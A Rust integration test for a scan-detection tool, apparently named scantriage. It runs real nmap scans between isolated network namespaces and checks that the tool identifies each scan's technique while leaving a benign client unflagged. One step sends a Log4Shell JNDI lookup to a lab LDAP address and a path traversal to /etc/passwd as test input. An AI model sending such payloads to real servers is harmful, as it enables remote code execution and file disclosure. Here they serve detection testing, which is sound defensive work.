//! End to end with real scans: three network namespaces (scanner, target, benign
//! client) joined by veth pairs; real `nmap` scans (`-sS`, `-sT`, `-sF`, `-sN`, `-sX`,
//! `-sA`, `-sU`) from the scanner, each technique from its own address, against a port
//! range on the target, which runs a small HTTP server and records with
//! `tcpdump -i any -w` (Linux cooked capture). The benign client fetches pages in a
//! loop. `scantriage analyze` on the capture must name each scan's technique and
//! address, decide default-timing scans within 10 probes, and never flag the client.
//!
//! Needs root, `ip`, `nmap`, `tcpdump` and `python3`; skips without them, except under
//! CI (`CI` set), where it fails. `.ci/run` installs them.
//!
//! The target also logs new and invalid inbound packets with an nftables `log` rule.
//! Kernel logging from a non-initial namespace needs `net.netfilter.nf_log_all_netns=1`
//! (set for the test, then restored). No syslog daemon runs here, so the test plays its
//! part: it reads `/dev/kmsg` from its start, and writes the lines with the rule's prefix
//! as RFC 3339 syslog lines (wall time from the boot time in `/proc/stat`), as rsyslog
//! would. `analyze` on that log must find the same scanners and techniques (a
//! `connect()` scan looks like a SYN scan there).
//!
//! A slow scan (`nmap -sS --scan-delay 5s` over 14 ports, about 70 s) runs alongside
//! and must be found in both, with its duration.
//!
//! One more address sends a single exploit request (a Log4Shell lookup in the user
//! agent, a traversal to `/etc/passwd` in the query): the capture's HTTP requests go
//! through the web signatures, so that source is blocked with the request as evidence
//! (input `target.pcap#http`, with the status the server answered), and the client's page
//! loads stay benign.
//!
//! Not covered here yet (see the issue): a real sshd.

mod common;

use common::*;
use scantriage_testkit::netns::Netns;
use std::process::{Child, Command, Stdio};
use std::time::Duration;

/// Reads `/dev/kmsg` from now on, in a thread, keeping lines that contain `needle`.
struct Kmsg {
    stop: std::sync::Arc<std::sync::atomic::AtomicBool>,
    thread: std::thread::JoinHandle<Vec<String>>,
}

impl Kmsg {
    fn start(needle: &'static str) -> Kmsg {
        use std::io::{Read, Seek, SeekFrom};
        use std::os::unix::fs::OpenOptionsExt;
        const O_NONBLOCK: i32 = 0o4000;
        let mut f = std::fs::OpenOptions::new()
            .read(true)
            .custom_flags(O_NONBLOCK)
            .open("/dev/kmsg")
            .expect("open /dev/kmsg");
        f.seek(SeekFrom::End(0)).expect("seek /dev/kmsg");
        let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
        let flag = stop.clone();
        let thread = std::thread::spawn(move || {
            let mut lines = Vec::new();
            let mut buf = vec![0u8; 8192];
            loop {
                match f.read(&mut buf) {
                    Ok(0) => {}
                    Ok(n) => {
                        let rec = String::from_utf8_lossy(&buf[..n]).into_owned();
                        if rec.contains(needle) {
                            lines.push(rec);
                        }
                        continue;
                    }
                    // Records overwritten before we read them: go on with the next.
                    Err(e) if e.raw_os_error() == Some(32) => continue,
                    Err(_) => {}
                }
                if flag.load(std::sync::atomic::Ordering::SeqCst) {
                    return lines;
                }
                std::thread::sleep(Duration::from_millis(5));
            }
        });
        Kmsg { stop, thread }
    }

    /// Stops reading; returns the records as RFC 3339 syslog lines.
    fn finish(self) -> String {
        self.stop.store(true, std::sync::atomic::Ordering::SeqCst);
        let records = self.thread.join().expect("kmsg reader");
        let stat = std::fs::read_to_string("/proc/stat").unwrap();
        let btime: i64 = stat
            .lines()
            .find_map(|l| l.strip_prefix("btime "))
            .and_then(|v| v.trim().parse().ok())
            .expect("btime");
        let mut out = String::new();
        for r in records {
            // `PRI,SEQ,USEC,FLAGS;MESSAGE` (continuation lines follow with a space).
            let Some((head, msg)) = r.split_once(';') else {
                continue;
            };
            let usec: i64 = head
                .split(',')
                .nth(2)
                .and_then(|u| u.parse().ok())
                .unwrap_or(0);
            let t = scantriage_core::Timestamp {
                unix_ms: btime * 1000 + usec / 1000,
                offset_min: 0,
            };
            let msg = msg.lines().next().unwrap_or("");
            out.push_str(&format!("{t} target kernel: {msg}\n"));
        }
        out
    }
}

/// Puts `net.netfilter.nf_log_all_netns` back when dropped, also when the test fails.
struct Restore(String);

impl Drop for Restore {
    fn drop(&mut self) {
        let _ = std::fs::write("/proc/sys/net/netfilter/nf_log_all_netns", &self.0);
    }
}

fn sh(ns: &Netns, cmd: &str) {
    ns.exec_ok("sh", &["-c", cmd]);
}

fn spawn(ns: &Netns, args: &[&str]) -> Child {
    Command::new("ip")
        .args(["netns", "exec", ns.name()])
        .args(args)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("spawn in namespace")
}

/// Stops a child we started, by its id, politely first.
fn stop(mut child: Child) {
    let _ = Command::new("kill")
        .args(["-INT", &child.id().to_string()])
        .status();
    for _ in 0..50 {
        if let Ok(Some(_)) = child.try_wait() {
            return;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    let _ = child.kill();
    let _ = child.wait();
}

#[test]
fn nmap_scans_are_detected_from_a_capture_and_the_client_is_not() {
    let needs = ["nmap", "tcpdump", "python3"];
    let Some(tgt) = Netns::create("tgt", &needs) else {
        return;
    };
    let Some(scn) = Netns::create("scn", &needs) else {
        return;
    };
    let Some(cli) = Netns::create("cli", &needs) else {
        return;
    };
    let link = |a: &Netns, an: &str, b: &Netns, bn: &str| {
        let ok = Command::new("ip")
            .args(["link", "add", an, "netns", a.name(), "type", "veth"])
            .args(["peer", "name", bn, "netns", b.name()])
            .status()
            .is_ok_and(|s| s.success());
        assert!(ok, "ip link add veth failed");
    };
    link(&scn, "veth0", &tgt, "veths");
    link(&cli, "veth0", &tgt, "vethc");
    sh(
        &scn,
        "ip addr add 10.77.0.1/24 dev veth0 && ip link set veth0 up",
    );
    for i in 11..=18 {
        sh(&scn, &format!("ip addr add 10.77.0.{i}/24 dev veth0"));
    }
    sh(
        &cli,
        "ip addr add 10.78.0.1/24 dev veth0 && ip link set veth0 up",
    );
    sh(
        &tgt,
        "ip addr add 10.77.0.2/24 dev veths && ip link set veths up && \
         ip addr add 10.78.0.2/24 dev vethc && ip link set vethc up && \
         sysctl -qw net.ipv4.icmp_ratelimit=0",
    );
    let dir = tempfile::tempdir().unwrap();
    let www = dir.path().join("www");
    std::fs::create_dir(&www).unwrap();
    std::fs::write(www.join("index.html"), "hello\n").unwrap();
    let cap = dir.path().join("target.pcap");
    let server = spawn(
        &tgt,
        &[
            "python3",
            "-m",
            "http.server",
            "8080",
            "--directory",
            www.to_str().unwrap(),
        ],
    );
    let dump = spawn(
        &tgt,
        &[
            "tcpdump",
            "-i",
            "any",
            "-n",
            "-U",
            "-w",
            cap.to_str().unwrap(),
            "ip",
        ],
    );
    let nf_log_all = std::fs::read_to_string("/proc/sys/net/netfilter/nf_log_all_netns")
        .unwrap_or_else(|_| "0".into());
    std::fs::write("/proc/sys/net/netfilter/nf_log_all_netns", "1")
        .expect("set net.netfilter.nf_log_all_netns=1");
    let _restore = Restore(nf_log_all.trim().to_string());
    tgt.nft_script(
        "table inet st_log {\n chain input {\n  type filter hook input priority -10; policy accept;\n  iifname \"veths\" ct state new,invalid log prefix \"st-scan: \"\n }\n}\n",
    );
    let kmsg = Kmsg::start("st-scan: ");
    std::thread::sleep(Duration::from_millis(1500));

    // A slow scan (one probe every 5 s, over a minute in all) runs alongside the others.
    let slow = spawn(
        &scn,
        &[
            "nmap",
            "-sS",
            "-Pn",
            "-n",
            "--max-retries",
            "0",
            "--scan-delay",
            "5s",
            "-p",
            "8070-8083",
            "-S",
            "10.77.0.17",
            "-e",
            "veth0",
            "10.77.0.2",
        ],
    );

    // The benign client: repeated page loads on the open port.
    let client = "import urllib.request,time\n\
                  for _ in range(15):\n    urllib.request.urlopen('http://10.78.0.2:8080/').read(); time.sleep(0.05)";
    cli.exec_ok("python3", &["-c", client]);

    let scans: [(&str, &str, &str); 7] = [
        ("-sS", "10.77.0.11", "syn"),
        ("-sF", "10.77.0.12", "fin"),
        ("-sN", "10.77.0.13", "null"),
        ("-sX", "10.77.0.14", "xmas"),
        ("-sA", "10.77.0.15", "ack"),
        ("-sU", "10.77.0.16", "udp"),
        ("-sT", "10.77.0.1", "connect"),
    ];
    for (flag, src, _) in scans {
        let mut args = vec![flag, "-Pn", "-n", "--max-retries", "1", "-p", "8070-8090"];
        if flag != "-sT" {
            args.extend(["-S", src, "-e", "veth0"]);
        }
        args.push("10.77.0.2");
        scn.exec_ok("nmap", &args);
    }
    cli.exec_ok("python3", &["-c", client]);
    let exploit = "import http.client\n\
                   c = http.client.HTTPConnection('10.77.0.2', 8080, timeout=5, source_address=('10.77.0.18', 0))\n\
                   c.request('GET', '/?page=../../../../etc/passwd', headers={'User-Agent': '${jndi:ldap://10.77.0.18:1389/a}'})\n\
                   c.getresponse().read()";
    scn.exec_ok("python3", &["-c", exploit]);
    let mut slow = slow;
    assert!(
        slow.wait().expect("slow nmap").success(),
        "slow nmap failed"
    );
    std::thread::sleep(Duration::from_millis(4000));
    stop(dump);
    stop(server);
    let log = kmsg.finish();
    let kern = dir.path().join("kern.log");
    std::fs::write(&kern, &log).unwrap();

    let (sources, summary, code, stderr) = analyze_json(&["--no-store", cap.to_str().unwrap()]);
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(summary["inputs"][0]["format"], "pcap");
    for (flag, src, technique) in scans {
        let s = sources
            .get(src)
            .unwrap_or_else(|| panic!("{flag}: no source {src} in {sources:?}"));
        assert_eq!(s["decision"], "block", "{flag}: {s}");
        let scan = &s["port_scan"];
        assert_eq!(scan["technique"], technique, "{flag}: {scan}");
        assert_eq!(scan["kind"], "vertical", "{flag}: {scan}");
        let before = scan["probes_before_detection"].as_u64().unwrap();
        assert!(
            before <= 10,
            "{flag}: decided after {before} probes: {scan}"
        );
    }
    let c = &sources["10.78.0.1"];
    assert!(c.get("port_scan").is_none(), "client flagged: {c}");
    assert_ne!(c["decision"], "block", "{c}");
    assert_eq!(c["verdict"], "benign", "client's page loads: {c}");
    // The exploit request, from the capture's HTTP requests.
    let http_input = &summary["inputs"][1];
    assert!(
        http_input["name"]
            .as_str()
            .unwrap()
            .ends_with("target.pcap#http"),
        "{summary}"
    );
    assert_eq!(http_input["format"], "combined", "{summary}");
    assert!(http_input["lines"].as_u64().unwrap() >= 31, "{summary}");
    let x = &sources["10.77.0.18"];
    assert_eq!(x["decision"], "block", "exploit sender: {x}");
    let sigs = x["signatures"].to_string();
    assert!(sigs.contains("log4shell-jndi"), "{x}");
    let reasons = x["reasons"].to_string();
    assert!(
        reasons.contains("target.pcap#http:") && reasons.contains("-> 200"),
        "{x}"
    );
    let slow_scan = |sources: &std::collections::HashMap<String, serde_json::Value>| {
        let s = &sources["10.77.0.17"];
        assert_eq!(s["decision"], "block", "slow scan: {s}");
        assert_eq!(s["port_scan"]["technique"], "syn", "slow scan: {s}");
        let d = s["port_scan"]["duration_secs"].as_u64().unwrap();
        assert!(d >= 60, "slow scan lasted {d}s: {s}");
    };
    slow_scan(&sources);

    // The same scans from the nftables log.
    let (sources, summary, code, stderr) = analyze_json(&["--no-store", kern.to_str().unwrap()]);
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(summary["inputs"][0]["format"], "netfilter", "{summary}");
    for (flag, src, technique) in scans {
        let s = sources
            .get(src)
            .unwrap_or_else(|| panic!("{flag}: no source {src} in the log:\n{log}"));
        assert_eq!(s["decision"], "block", "{flag}: {s}");
        let scan = &s["port_scan"];
        let want = if technique == "connect" {
            "syn"
        } else {
            technique
        };
        assert_eq!(scan["technique"], want, "{flag}: {scan}");
        assert_eq!(scan["method"], "distinct", "{flag}: {scan}");
        let before = scan["probes_before_detection"].as_u64().unwrap();
        assert!(
            before <= 10,
            "{flag}: decided after {before} probes: {scan}"
        );
    }
    slow_scan(&sources);
    if let Some(c) = sources.get("10.78.0.1") {
        assert!(
            c.get("port_scan").is_none(),
            "client flagged in the log: {c}"
        );
    }
}
